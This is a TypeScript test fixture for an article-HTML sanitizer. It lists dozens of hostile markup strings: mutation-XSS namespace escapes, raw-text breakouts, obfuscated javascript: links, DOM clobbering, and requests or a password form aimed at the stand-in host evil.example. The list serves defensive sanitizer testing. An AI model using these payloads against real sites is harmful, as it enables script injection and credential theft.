import { cleanArticleHtml } from '../text/html/clean.ts'

/**
 * Markup that is read differently by two parsers, changes when it is written and read again, or hides what it does. Each
 * would set a global `canary` if anything ran it, or ask `evil.example` for something.
 */
export const HOSTILE_MARKUP: readonly string[] = [
  // Other namespaces, and the way out of them.
  '<svg><style><img src=x onerror=canary=1></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=canary=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary=1&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=canary=1>',
  '<svg><foreignObject><iframe src=javascript:canary=1></iframe></foreignObject></svg>',
  '<svg><script href="data:,canary=1"/></svg>',
  '<svg><a xlink:href="javascript:canary=1"><text y=9>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:canary=1 /><a id=x><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary=1/>#x"></svg>',
  '<math href="javascript:canary=1"><mi>x</mi></math>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=canary=1></style></annotation-xml></math>',
  '<svg><desc><p><style><!--</style><img src=x onerror=canary=1>--></style></desc></svg>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">canary=1</x:script>',
  // Raw text that ends where another parser does not see it end.
  '<noscript><p title="</noscript><img src=x onerror=canary=1>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=canary=1>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=canary=1>"></xmp>',
  '<iframe><p title="</iframe><img src=x onerror=canary=1>"></iframe>',
  '<textarea><p title="</textarea><img src=x onerror=canary=1>"></textarea>',
  '<title><p title="</title><img src=x onerror=canary=1>"></title>',
  '<style><!--</style><img src=x onerror=canary=1>--></style>',
  '<template><img src=x onerror=canary=1></template>',
  '<select><template><img src=x onerror=canary=1></template></select>',
  '<table><template><tr><td><img src=x onerror=canary=1></template></table>',
  '<![CDATA[<script>canary=1</script>]]>',
  '<!--[if gte IE 4]><script>canary=1</script><![endif]-->',
  '<!--><script>canary=1</script>-->',
  '<!---><script>canary=1</script>-->',
  '<!--x--!><script>canary=1</script>',
  '</ <script>canary=1</script>>',
  '<//script><script>canary=1</script>',
  // Attributes that look like markup once they are cut out and put together again.
  '<abbr title="<h2><img src=x onerror=canary=1></h2>">W</abbr>',
  '<abbr title="<p data-read-also=&quot;1&quot;></p><img src=x onerror=canary=1>">W</abbr>',
  '<figure><img src="/icon.svg" alt="<small>n onmouseover=canary=1 </small></figcaption>"><figcaption>c</figcaption></figure>',
  '<figure><img src="/icon.svg" alt=x><figcaption>c <small>n" onmouseover="canary=1</small></figcaption></figure>',
  '<h2 id="x&quot; onclick=&quot;canary=1">h</h2>',
  '<p data-read-also="1&quot;><img src=x onerror=canary=1>"></p>',
  '<img src="x` `<script>canary=1</script>"` `>',
  '<a href="x"title="y"onmouseover="canary=1">a</a>',
  '<p/onclick=canary=1>a</p>',
  // Addresses that browsers read more kindly than others.
  '<a href="java&#x09;script:canary=1">a</a>',
  '<a href="&#1;javascript:canary=1">a</a>',
  '<a href="javascript&colon;canary=1">a</a>',
  '<a href="jav&NewLine;ascript:canary=1">a</a>',
  '<a href="data:text/html,<script>canary=1</script>">a</a>',
  '<a href="vbscript:canary=1">a</a>',
  '<a href="view-source:javascript:canary=1">a</a>',
  '<a href="blob:https://evil.example/x">a</a>',
  '<a href="x" ping="https://evil.example/">a</a>',
  '<img src="//evil.example/a.png">',
  '<img src="/\\evil.example/a.png">',
  '<img src="/&#9;/evil.example/a.png">',
  '<img src=x srcset="https://evil.example/a.png 1x">',
  '<picture><source srcset="https://evil.example/a.png"><img src=/icon.svg></picture>',
  '<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4" autoplay></video>',
  '<table background="https://evil.example/a.png"><td>x</table>',
  '<p style="background:url(https://evil.example/a.png)">x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  // Embeds of sites that only look like those that are known.
  ...[
    ...[
      'https://www.youtube.com.evil.example/watch?v=abcdefghijk',
      'https://youtube.com@evil.example/watch?v=abcdefghijk',
    ],
    ...[
      'javascript://youtube.com/watch?v=abcdefghijk%0acanary=1',
      'https://evil.example/youtube.com/watch?v=abcdefghijk',
    ],
    ...['https://evilyoutube.com/watch?v=abcdefghijk', 'data:text/html,youtube.com/watch?v=abcdefghijk'],
  ].flatMap((address) => [
    `<p data-embed="youtube"><a href="${address}">x</a></p>`,
    `<iframe src="${address}"></iframe>`,
  ]),
  // What takes over a page without any script.
  '<form action=https://evil.example/ id=f><input name=password></form><button form=f>x</button>',
  '<form><form action=javascript:canary=1><button formaction=javascript:canary=1>x</button>',
  '<a id=location name=location href="javascript:canary=1">x</a><img name=body><form id=document name=cookie></form>',
  '<div popover id=p style="inset:0">x</div><button popovertarget=p onclick=canary=1>x</button>',
  '<dialog open onclose=canary=1><form method=dialog><button>x</button></form></dialog>',
  '<body onload=canary=1><html onmouseover=canary=1>',
  '<frameset onload=canary=1><frame src=javascript:canary=1></frameset>',
  '<input autofocus onfocus=canary=1><keygen autofocus onfocus=canary=1>',
  '<q cite="javascript:canary=1">q</q><blockquote cite="javascript:canary=1">b</blockquote>',
  '<portal src=https://evil.example/></portal><fencedframe></fencedframe>',
  '<isindex action=javascript:canary=1 type=image>',
  // Signs that are not seen, and such as are none.
  '\u202E\u2066<b>bidi</b>\u0000<\u0000script>canary=1</script>\uFFFE\uFEFF',
  '<scr\u0000ipt>canary=1</scr\u0000ipt>',
  '\u{D800}<img src=x onerror=canary=1>\u{DC00}',
]

/** Whether markup takes what stands behind it into itself: then nothing behind it would be tried. */
export const swallows = (html: string): boolean =>
  !cleanArticleHtml(`<div>${html}</div><p>After.</p>`).endsWith('<p>After.</p>')
